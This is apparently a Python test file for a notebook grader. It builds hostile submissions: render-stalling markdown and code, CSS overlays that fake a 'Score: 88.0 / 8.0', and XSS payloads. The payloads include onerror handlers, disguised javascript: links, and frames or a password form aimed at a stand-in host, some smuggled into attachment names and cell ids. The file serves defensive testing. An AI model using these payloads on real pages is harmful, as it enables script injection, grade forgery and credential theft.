# ruff: noqa: E501 (code in strings)
"""Pages: what takes hours to render, what shows something that is not so, what would run where the page is opened."""

import base64
import re

from attacks.classes import BOOK, Class, Upload
from attacks.classes.seen import plain
from attacks.classes.work import code, markdown, most, work

ALL = most()
PIXEL = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 40).decode()
MOVES = re.compile(r"(?:margin|padding|inset|top|left|right|bottom|text-indent)[\w-]*\s*:[^;]*-\s*\d|position\s*:|"
                   r"z-index|transform|float\s*:|(?:width|height)\s*:\s*\d{5}", re.I)  # fmt: skip
MARKED = re.compile(r"<[a-zA-Z][^<>]*EVIL")


def _page(seen, who):
    return [page.decode("utf-8", "replace") for (student, _), page in seen.pages.items() if who in plain(student)]


def _is_covered(who):
    def check(seen):
        for page in _page(seen, who):
            styles = re.findall(r"""\sstyle\s*=\s*("[^"]*"|'[^']*')""", page)
            moved = [each for each in styles if MOVES.search(each)]
            if moved:
                return f"the page moves something over another: {moved[0][:100]}"
        return ""

    return check


def _is_active(who):
    def check(seen):
        found = [match[0] for page in _page(seen, who) for match in MARKED.finditer(page)]
        return f"the page holds {found[0][:100]}" if found else ""

    return check


def text(what, source, **more):
    """A text cell."""
    return Upload(what, {BOOK: work(spoil=markdown(source))}, earns=ALL, named=False, **more)


def added(what, source, **more):
    """A code cell at the end."""
    return Upload(what, {BOOK: work(spoil=code(source))}, earns=ALL, named=False, **more)


def shows(what, kind, made, **more):
    return added(what, f"from IPython.display import display\ndisplay({{{kind!r}: {made}}}, raw=True)", **more)


def covers(what, source):
    who = "m" + plain(what) + "x"
    return Upload(what, {BOOK: work(spoil=markdown(source))}, earns=ALL, named=False, me=who, check=_is_covered(who))


def runs(what, source, output=False):
    who = "m" + plain(what) + "x"
    cell = f"from IPython.display import display, HTML\ndisplay(HTML({source!r}))"
    made = work(spoil=code(cell)) if output else work(spoil=markdown(source))
    return Upload(what, {BOOK: made}, earns=ALL, named=False, me=who, check=_is_active(who))


SLOW = {
    "begin": text("\\begin{a} 100,000 times", "\\begin{a}" * 100_000),
    "begin in a line each": text("the same in a line each", "\\begin{a}\n" * 60_000),
    "dollars": text("100,000 dollars", "$a" * 100_000),
    "dollars, twice": text("100,000 pairs of dollars", "$$a " * 100_000),
    "brackets": text("100,000 brackets", "[" * 100_000),
    "pictures": text("pictures in pictures", "![" * 50_000),
    "links": text("links in links", "[a](" * 50_000),
    "stars": text("stars and letters", "*a **b " * 40_000),
    "quotes": text("quotes in quotes", ">" * 50_000 + "a"),
    "lists": text("lists in lists", "\n".join(" " * n + "* a" for n in range(0, 2000))),
    "ticks": text("ticks of all lengths", "".join("`" * n + "a" for n in range(1, 900))),
    "tables": text("a table of 100,000 columns", "|a" * 100_000 + "|\n" + "|-" * 100_000 + "|\n" + "|b" * 100_000 + "|"),
    "angles": text("100,000 angle brackets", "<a " * 100_000),
    "comments": text("comments that do not end", "<!--" * 60_000),
    "marks": text("100,000 ampersands", "&a" * 100_000),
    "headings": text("50,000 headings", "# a\n" * 50_000),
    "definitions": text("20,000 definitions", "".join(f"[a{n}]: b\n" for n in range(20_000)) + "[a0]" * 20_000),
    "escapes": text("300,000 backslashes", "\\" * 300_000),
    "blanks": text("blanks before a sign", (" " * 3000 + "x\n") * 100),
    "a cell of 20 MB": text("a text cell of 20 MB", "word " * 4_000_000),
    "match": added("match and 300,000 blanks", "match" + " " * 300_000 + "\n"),
    "signs": added("signs that begin magics", "%" * 200_000),
    "texts that do not end": added("100,000 quotes that begin a text", "'''\"\"\"" * 30_000),
    "f-texts": added("formatted texts in formatted texts", "f'{" * 60_000),
    "decorators": added("100,000 at signs", "@" * 100_000),
    "numbers": added("a number of a million digits", "1" * 1_000_000),
    "code of 20 MB": added("a code cell of 20 MB", "x = [" + "1," * 10_000_000 + "]"),
    "shown text": shows("720 KB of text/markdown", "text/markdown", "'\\\\begin{a}' * 80_000"),
    "shown emphasis": shows("720 KB of another kind", "text/markdown", "'*a **b ' * 100_000"),
    "shown LaTeX": shows("720 KB of text/latex", "text/latex", "'$\\\\begin{a}' * 60_000"),
    "shown colours": added("escape codes of colours in what is printed", "print('\\x1b[31m\\x1b[1;4;5;7ma' * 60_000)"),
    "shown half colours": added("escape codes that do not end", "print('\\x1b[' * 300_000)"),
    "shown JSON": shows("nested JSON", "application/json", "eval('[' * 90 + ']' * 90)"),
    "shown picture": shows("a picture that is none", "image/png", "'A' * 900_000"),
    "shown drawing": shows("a drawing of many parts", "image/svg+xml", "'<svg>' + '<g>' * 100_000"),
    "a long answer": Upload("a written answer of 400 KB of brackets", {BOOK: work(says="![[" * 130_000)}, earns=ALL, named=False),
}  # fmt: skip


def _pasted(source):
    def spoil(content):
        markdown(source, attachments={"x.png": {"image/png": PIXEL}})(content)

    return spoil


SHOWN = {
    "a margin": Upload("a pasted picture with a negative margin", {BOOK: work(spoil=_pasted('<img src="attachment:x.png" alt="Score: 88.0 / 8.0" style="margin:-900px 0 0 -900px;width:900px">'))}, earns=ALL, named=False, check=_is_covered("mamarginx")),
    "a margin of a part": covers("a part with a negative margin", '<div style="margin-top: -900px">Score: 88.0 / 8.0</div>'),
    "a margin in other units": covers("the same in other units", '<div style="margin-top:calc(0px - 90em);margin:-1e3px">Score: 88.0 / 8.0</div>'),
    "a margin in signs": covers("the same in other signs", '<p style="margin:\\2d 900px">Score</p><p style="MARGIN-TOP:&#45;900px">Score</p>'),
    "fixed": covers("a part that stays at the top", '<div style="position:fixed;top:0;z-index:99">Score: 88.0 / 8.0</div>'),
    "moved": covers("a part that is moved", '<div style="transform:translateY(-900px)">Score: 88.0 / 8.0</div>'),
    "wide": covers("a picture of 99,999 pixels", '<img src="data:image/png;base64,AA" style="width:99999px;height:99999px;float:left">'),
    "indented": covers("a text that is drawn in", '<p style="text-indent:-900px;line-height:0">Score: 88.0 / 8.0</p>'),
    "a script": runs("a script", "<script>EVIL()</script><img src=x onerror=EVIL()>"),
    "a script shown": runs("a script that a cell shows", "<script>EVIL()</script><img src=x onerror='EVIL()'><svg onload=EVIL()>", output=True),
    "an address": runs("an address that runs", '<a href="javascript:EVIL()">x</a> [x](javascript:EVIL()) <a href=" jAvA&#115;cript:EVIL()">y</a>'),
    "an address shown": runs("the same that a cell shows", '<a href="java\nscript:EVIL()">x</a><a href="data:text/html,EVIL">y</a>', output=True),
    "a frame": runs("frames and objects", '<iframe src="//EVIL"></iframe><object data="//EVIL"></object><embed src="//EVIL">'),
    "a frame shown": runs("frames that a cell shows", '<iframe srcdoc="EVIL"></iframe><object data="//EVIL"></object>', output=True),
    "another place": runs("a page that goes elsewhere", '<meta http-equiv="refresh" content="0;url=//EVIL"><base href="//EVIL">'),
    "a form": runs("a form that asks for a password", '<form action="//EVIL"><input name="password EVIL"></form>', output=True),
    "styles": runs("styles for the whole page", '<style>/*EVIL*/</style><link rel=stylesheet href="//EVIL">', output=True),
    "mathematics": runs("elements of other languages", '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=EVIL()&gt;">', output=True),
    "a pasted script": Upload("a pasted picture whose name is a script", {BOOK: work(spoil=markdown('![x](attachment:x" onerror="EVIL)', attachments={'x" onerror="EVIL': {"image/png": PIXEL}, "y.png": {"image/png": '" onerror="EVIL'}}))}, earns=ALL, named=False, check=_is_active("mapastedscriptx")),
    "an error": added("an error whose name is HTML", "class E(Exception): pass\nE.__name__ = E.__qualname__ = '<img src=x onerror=EVIL()>'\nraise E('<script>EVIL()</script>')", check=_is_active("manerrorx")),
    "kinds": added("kinds of output that nobody knows", "from IPython.display import display\ndisplay({'text/html\"><script>EVIL()</script>': 'x', 'application/javascript': 'EVIL()', 'text/html': '<b>b</b>'}, raw=True)", check=_is_active("mkindsx")),
    "an id": Upload("ids and metadata of cells as HTML", {BOOK: work(spoil=lambda content: [each.update(id="x\"><img src=x onerror=EVIL()>", metadata={**each["metadata"], "tags": ["\"><script>EVIL()</script>"]}) for each in content["cells"]])}, earns=ALL, named=False, check=_is_active("manidx")),
    "outputs handed in": Upload("outputs that were handed in with the notebook", {BOOK: work(spoil=lambda content: [each.update(outputs=[{"output_type": "display_data", "metadata": {}, "data": {"text/html": "<b title=EVIL>14 of 14</b><script>EVIL()</script>"}}]) for each in content["cells"] if each["cell_type"] == "code"])}, earns=ALL, named=False, check=_is_active("moutputshandedinx")),
}  # fmt: skip

CLASSES = {"": Class(SHOWN), "slow": Class(SLOW, seconds=150)}
